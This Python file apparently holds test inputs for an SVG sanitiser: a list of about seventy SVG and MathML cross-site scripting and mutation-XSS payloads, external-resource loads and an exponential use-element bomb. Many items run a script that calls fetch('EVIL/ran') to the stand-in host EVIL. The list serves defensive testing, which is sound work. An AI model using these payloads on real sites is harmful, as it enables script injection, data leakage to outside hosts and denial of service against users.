"""What drawings in a page were ever used for to run a script or to ask another server. `EVIL` stands for that server.

From the OWASP list of XSS filter evasions, html5sec.org, and what was found in sanitisers that write a tree anew
(mutation XSS: what a parser makes of their output differs from what they wrote).
"""

_BOMB = "".join(f'<g id="b{level}">{f"<use href=#b{level + 1} />" * 10}</g>' for level in range(9))

RUN = "fetch('EVIL/ran');window.owned=1"
ATTACKS = (
    # Scripts and handlers.
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=\"data:text/javascript,{RUN}\" /></svg>",
    "<svg><script xlink:href=EVIL/script.js></script></svg>",
    f'<svg onload="{RUN}"><path d="M0 0h9v9z"/></svg>',
    f'<svg><g onload="{RUN}"><rect width=9 height=9 onclick="{RUN}"/></g></svg>',
    f'<svg><a onclick="{RUN}"><text y=9>x</text></a></svg>',
    f'<svg><image href=x onerror="{RUN}"/></svg>',
    f'<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{RUN}</handler></svg>',
    f"<svg><discard onbegin=\"{RUN}\"/></svg>",
    # Links.
    f'<svg><a xlink:href="javascript:{RUN}"><rect width=99 height=99 /></a></svg>',
    f'<svg><a href="java&#9;script:{RUN}"><text y=9>x</text></a></svg>',
    f'<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
    # Animations that write an address or a handler.
    f'<svg><a><animate attributeName=href values="javascript:{RUN}" fill=freeze /><text y=9>x</text></a></svg>',
    f'<svg><a xlink:href=#><set attributeName="xlink:href" to="javascript:{RUN}"/><text y=9>x</text></a></svg>',
    f'<svg><set attributeName=onmouseover to="{RUN}"/><animate onbegin="{RUN}" attributeName=x dur=1s /></svg>',
    f'<svg><animatetransform onbegin="{RUN}" attributeName=transform /></svg>',
    f'<svg><animate attributeName=x dur=1s onend="{RUN}" repeatCount=1 /></svg>',
    # References elsewhere.
    "<svg><use href='EVIL/sprite.svg#x'/></svg>",
    "<svg><use xlink:href='//EVIL/sprite.svg#x'/></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' "
    f"onerror='{RUN}' /></svg>#x\"/></svg>",
    "<svg><use href='EVIL/a.svg#x' xlink:href='#y'/><symbol id=y><use href=EVIL/b.svg /></symbol></svg>",
    "<svg><image href='EVIL/picture'/><image xlink:href='EVIL/picture2'/></svg>",
    "<svg><filter id=f><feImage href='EVIL/fe' xlink:href='EVIL/fe2'/></filter>"
    "<rect filter=url(#f) width=9 height=9 /></svg>",
    "<svg><linearGradient id=g xlink:href='EVIL/g.svg#g'/><rect fill=url(#g) width=9 height=9 /></svg>",
    "<svg><rect width=9 height=9 fill='url(EVIL/paint#x)' stroke=\"url('EVIL/stroke#x')\"/></svg>",
    "<svg><rect width=9 height=9 mask='url(EVIL/mask#x)' clip-path='url(EVIL/clip#x)'/>"
    "<path filter='url(EVIL/filter#x)'/></svg>",
    "<svg><path d='M0 0h9' marker-end='url(EVIL/marker#x)' cursor='url(EVIL/cursor),auto'/></svg>",
    "<svg><rect width=9 height=9 mask='u\\72l(EVIL/escaped#x)' clip-path='\\75 rl(EVIL/escaped2#x)'/></svg>",
    "<svg><rect width=9 height=9 mask='url(#a),url(EVIL/second)' clip-path='URL( EVIL/blank#x )'/></svg>",
    "<svg><rect width=9 height=9 mask='image-set(\"EVIL/set\" 1x)' style='mask:url(EVIL/style#x)'/></svg>",
    "<svg><rect width=9 height=9 mask='url(EVIL/open#x'/></svg>",
    "<svg><textPath href='EVIL/way#p'>x</textPath><mpath xlink:href='EVIL/m#p'/></svg>",
    "<svg xml:base='EVIL/'><use href='x.svg#y'/><image href=y /></svg>",
    # Style sheets in drawings.
    "<svg><style>@import url(EVIL/import.css); rect { background: url(EVIL/ground) }</style><rect/></svg>",
    "<svg><style>rect{fill:red}</style><style>*{background-image:url('EVIL/star')}</style></svg>",
    f'<svg><style><img src=x onerror="{RUN}"></style></svg>',
    f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
    f"<svg><style>&lt;/style&gt;&lt;img src=x onerror={RUN}&gt;</style></svg>",
    f"<svg><style><![CDATA[</style><img src=x onerror={RUN}>]]></style></svg>",
    "<?xml-stylesheet href='EVIL/pi.css'?><svg><?xml-stylesheet href='EVIL/pi2.css'?></svg>",
    # What is HTML again inside, and what only seems to be outside.
    f'<svg><foreignObject><img src=x onerror="{RUN}"><iframe src="EVIL/frame"></iframe></foreignObject></svg>',
    f'<svg><title><img src=x onerror="{RUN}"></title><desc><script>{RUN}</script></desc></svg>',
    f"<svg><title>&lt;/title&gt;&lt;img src=x onerror={RUN}&gt;</title></svg>",
    f"<svg><desc><style></desc><img src=x onerror=\"{RUN}\"></style></svg>",
    f'<svg><p><img src=x onerror="{RUN}"></p></svg>',
    f'<svg><font color=red><img src=x onerror="{RUN}"></font></svg>',
    f'<svg><font><img src=x onerror="{RUN}"></font></svg>',
    f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    f"<svg><text><![CDATA[</text></svg><img src=x onerror={RUN}>]]></text></svg>",
    f"<svg><!--><img src=x onerror={RUN}>--></svg>",
    f"<svg><xmp><img src=x onerror={RUN}></xmp></svg>",
    f"<svg><noscript><img title=\"</noscript><img src=x onerror={RUN}>\"></noscript></svg>",
    f"<svg><textarea><img title=\"</textarea><img src=x onerror={RUN}>\"></svg>",
    f'<svg><path d="M0 0" id=\'"><img src=x onerror={RUN}>\'/></svg>',
    f"<svg><path class='\"><script>{RUN}</script>'/></svg>",
    f"<svg/><script/>{RUN}</script>",
    f"<svg><svg><script>{RUN}</script></svg><title><svg><script>{RUN}</script></svg></title></svg>",
    # One language inside another.
    f'<math><annotation-xml encoding="text/html"><svg><img src=x onerror="{RUN}"></svg></annotation-xml></math>',
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror=\"{RUN}\"></style></mglyph></form>",
    f"<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--><img src=x onerror='{RUN}'>\">",
    f"<math><mi><svg><mtext><style><img src=x onerror=\"{RUN}\"></style></mtext></svg></mi></math>",
    f"<table><svg><desc><td><svg><title></table><img src=x onerror=\"{RUN}\"></svg>",
    f"<select><svg><option><style></select><img src=x onerror=\"{RUN}\"></style></svg>",
    f"<svg><select><style></svg></select><img src=x onerror=\"{RUN}\"></style>",
    f"<template><svg><script>{RUN}</script></svg></template>",
    f"<svg><mtext><malignmark><style><img src=x onerror=\"{RUN}\"></style></mtext></svg>",
    # One that draws without end.
    f"<svg><defs>{_BOMB}<rect id=b9 width=1 height=1 /></defs><use href=#b0 /></svg>",
    "<svg><g id=loop><use href=#loop /></g><symbol id=s><use href=#t /></symbol><g id=t><use href=#s /></g></svg>",
)  # fmt: skip
